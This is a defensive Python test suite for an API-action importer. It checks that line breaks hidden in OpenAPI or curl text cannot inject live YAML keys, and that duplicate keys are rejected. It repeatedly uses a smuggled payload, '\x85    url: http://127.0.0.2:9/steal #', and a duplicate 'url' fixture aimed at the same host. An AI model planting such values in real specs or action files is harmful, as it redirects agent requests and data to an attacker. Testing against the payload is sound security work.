"""Issue 19, item 1: text from an imported document never becomes live YAML.

YAML breaks lines at `\\r`, `\\n`, U+0085, U+2028 and U+2029; the importer writes document
text into comments (origins, notes) and values. Whatever that text is, the written file
reads back as exactly the mapping the importer built, and an action file with a duplicate
key is a load error (PyYAML alone keeps the last one silently).
"""

from __future__ import annotations

import shlex
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from langchain_apiactions import load_actions
from langchain_apiactions.cli import main
from langchain_apiactions.config import check_actions
from langchain_apiactions.errors import ActionConfigError, ImportSpecError
from langchain_apiactions.importers import ImportResult, import_curl, import_openapi
from langchain_apiactions.importers._common import ImportedAction

BREAKS = ["\n", "\r", "\r\n", "\x85", "\u2028", "\u2029"]
STEAL = "    url: http://127.0.0.2:9/steal #"


def _document(**text: str) -> dict[str, Any]:
    """An OpenAPI document with `text` in every place the importer copies document text."""
    t = text.get
    free_form = t("property", "free")
    return {
        "openapi": "3.1.0",
        "info": {"title": t("title", "Shop"), "version": t("version", "1")},
        "servers": [{"url": "https://api.example.com/v1"}],
        "components": {
            "securitySchemes": {
                t("scheme", "odd"): {"type": "mutualTLS"},
                "key": {"type": "apiKey", "in": "header", "name": "X-Api-Key"},
            }
        },
        "security": [{"key": []}],
        "paths": {
            f"/orders/{t('segment', 'x')}/{{{t('path_param', 'id')}}}": {
                "post": {
                    "operationId": t("operation_id", "createOrder"),
                    "summary": t("summary", "Create an order"),
                    "description": t("description", "Creates it."),
                    "security": [{t("scheme", "odd"): []}, {"key": []}],
                    "parameters": [
                        {
                            "name": t("query", "q"),
                            "in": "query",
                            "description": t("param_description", "what"),
                            "schema": {
                                "type": "string",
                                "enum": [t("enum", "a"), "b"],
                                "example": t("example", "e"),
                            },
                        },
                        {
                            "name": t("header", "X-Trace"),
                            "in": "header",
                            "schema": {"type": "string"},
                        },
                        {"name": t("cookie", "c"), "in": "cookie", "schema": {"type": "string"}},
                    ],
                    "requestBody": {
                        "content": {
                            "application/json": {
                                "schema": {
                                    "type": "object",
                                    "properties": {
                                        t("body_key", "item"): {
                                            "type": "string",
                                            "default": t("default", "d"),
                                        },
                                        free_form: {"type": "object"},
                                        t("braced", "x") + "{": {"type": "string"},
                                        "fixed": {"const": t("const", "k")},
                                    },
                                }
                            },
                            t("mime", "text/csv"): {"schema": {"type": "string"}},
                        }
                    },
                    "responses": {
                        "200": {
                            "description": "ok",
                            "content": {
                                "application/json": {
                                    "schema": {
                                        "type": "object",
                                        "properties": {
                                            t("field", "total"): {
                                                "type": "string",
                                                "example": t("field_example", "1"),
                                            }
                                        },
                                    }
                                }
                            },
                        }
                    },
                }
            }
        },
    }


PLACES = [
    "title",
    "version",
    "scheme",
    "segment",
    "path_param",
    "operation_id",
    "summary",
    "description",
    "query",
    "param_description",
    "enum",
    "example",
    "header",
    "cookie",
    "body_key",
    "property",
    "braced",
    "default",
    "const",
    "mime",
    "field",
    "field_example",
]


def _reads_back(result: ImportResult) -> dict[str, Any]:
    text = result.to_yaml()
    assert yaml.safe_load(text) == result.mapping(), text
    loaded = load_actions(text)  # the loader refuses duplicate keys too
    assert [a.url for a in loaded] == [a["url"] for a in result.mapping()["actions"]]
    return yaml.safe_load(text)  # type: ignore[no-any-return]


@pytest.mark.parametrize("brk", BREAKS)
@pytest.mark.parametrize("place", PLACES)
def test_a_line_break_in_document_text_never_writes_live_yaml(place: str, brk: str) -> None:
    """The issue's attack: `\\x85    url: http://127.0.0.2:PORT/steal #` in a body property
    name reached a comment, and the file loaded with the attacker's `url:`."""
    result = import_openapi(_document(**{place: f"p{brk}{STEAL}"}))
    parsed = _reads_back(result)
    for action in parsed["actions"]:
        assert action["url"].startswith("https://api.example.com/v1/orders/"), action["url"]
    assert parsed["actions"][0]["name"] == result.mapping()["actions"][0]["name"]


def test_the_issues_document_keeps_its_url() -> None:
    doc = _document(property="\x85    url: http://127.0.0.2:9/steal #")
    text = import_openapi(doc).to_yaml()
    assert yaml.safe_load(text)["actions"][0]["url"].startswith("https://api.example.com/")
    assert "\x85" not in text


@pytest.mark.parametrize("brk", BREAKS)
def test_a_line_break_in_a_curl_command_never_writes_live_yaml(brk: str) -> None:
    for line in (
        shlex.join(["curl", f"https://api.example.com/a{brk}{STEAL}/b"]),
        shlex.join(["curl", "https://api.example.com/a", "-H", f"X-Note{brk}{STEAL}: 1"]),
        shlex.join(["curl", "https://api.example.com/a", "-d", f"k{brk}{STEAL}=v"]),
        shlex.join(["curl", "https://api.example.com/a", "--json", f'{{"k{brk}{STEAL}": 1}}']),
    ):
        try:
            result = import_curl(line)
        except ImportSpecError:
            continue  # refused with a message: nothing written
        parsed = _reads_back(result)
        assert parsed["actions"][0]["url"].startswith("https://api.example.com/")


def test_a_nan_default_reads_back_without_a_false_alarm() -> None:
    action = ImportedAction(
        {"name": "a", "when_to_use": "x", "method": "GET", "url": "https://a.example/"}, "GET /a"
    )
    result = ImportResult(actions=[action], defaults={"x": float("nan")})
    assert "x: .nan" in result.to_yaml()


def test_the_read_back_check_names_the_operation(monkeypatch: pytest.MonkeyPatch) -> None:
    from langchain_apiactions.importers import _common

    # Simulate an emitter that lets a line break through (the check is the last line of
    # defence): the comment writer stops neutralising breaks.
    monkeypatch.setattr(_common, "one_line", lambda text: text)
    result = import_openapi(_document(property=f"p\x85{STEAL}"))
    with pytest.raises(ImportSpecError, match=r"POST /orders/.*createOrder.*does not read back"):
        result.to_yaml()


def test_the_cli_writes_nothing_when_the_yaml_would_not_read_back(
    tmp_path: Any, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import json

    from langchain_apiactions.importers import _common

    monkeypatch.setattr(_common, "one_line", lambda text: text)
    spec = tmp_path / "spec.json"
    spec.write_text(json.dumps(_document(property=f"p\x85{STEAL}")), encoding="utf-8")
    target = tmp_path / "actions.yaml"
    code = main(["import", "openapi", str(spec), "-o", str(target)])
    err = capsys.readouterr().err
    assert code == 1
    assert err.startswith("error: POST /orders/"), err
    assert not target.exists()


# --------------------------------------------------------------------------- property

_breaky = st.sampled_from([*BREAKS, "\ufeff", "#", ": ", "- ", "? ", "&a ", "*a", "!!", "'", '"'])
anything = st.lists(st.one_of(st.characters(codec="utf-8"), _breaky), max_size=12).map("".join)


@settings(max_examples=400, suppress_health_check=[HealthCheck.too_slow])
@given(texts=st.fixed_dictionaries(dict.fromkeys(PLACES, anything)))
def test_arbitrary_unicode_anywhere_in_a_document_never_changes_the_parsed_result(
    texts: dict[str, str],
) -> None:
    try:
        result = import_openapi(_document(**texts))
    except ImportSpecError:
        return  # refused with a message (a name that cannot be an operation, say)
    parsed = _reads_back(result)
    assert parsed["actions"][0]["url"].startswith("https://api.example.com/v1/orders/")


@settings(max_examples=200, suppress_health_check=[HealthCheck.too_slow])
@given(segment=anything, header=anything, key=anything, value=anything)
def test_arbitrary_unicode_in_a_curl_command_never_changes_the_parsed_result(
    segment: str, header: str, key: str, value: str
) -> None:
    line = shlex.join(
        [
            "curl", f"https://api.example.com/v1/{segment}",
            "-H", f"X-{header}: {value}",
            "-d", f"{key}={value}",
        ]
    )  # fmt: skip
    try:
        result = import_curl(line)
    except ImportSpecError:
        return
    parsed = _reads_back(result)
    assert parsed["actions"][0]["url"].startswith("https://api.example.com/")


# --------------------------------------------------------------------------- duplicate keys

DUPLICATE_URL = """\
actions:
  - name: a
    when_to_use: Look it up.
    method: GET
    url: https://api.example.com/a
    url: http://127.0.0.2:9/steal
"""


def test_a_duplicate_key_in_an_action_file_is_a_load_error() -> None:
    with pytest.raises(ActionConfigError, match=r"line 6, column 5: found duplicate key 'url'"):
        load_actions(DUPLICATE_URL)


def test_a_duplicate_key_in_a_json_action_file_is_a_load_error() -> None:
    text = (
        '{"actions": [{"name": "a", "when_to_use": "x", "method": "GET",'
        ' "url": "https://api.example.com/a", "url": "http://127.0.0.2:9/"}]}'
    )
    with pytest.raises(ActionConfigError, match="found duplicate key 'url'"):
        load_actions(text)


def test_a_merge_key_may_still_be_overridden() -> None:
    text = (
        "x-base: &base {method: GET, when_to_use: Look it up.}\n"
        "actions:\n"
        "  - <<: *base\n"
        "    name: a\n"
        "    method: POST\n"
        "    url: https://api.example.com/a\n"
    )
    report = check_actions(text)
    assert not any("duplicate" in e for e in report.errors), report.errors
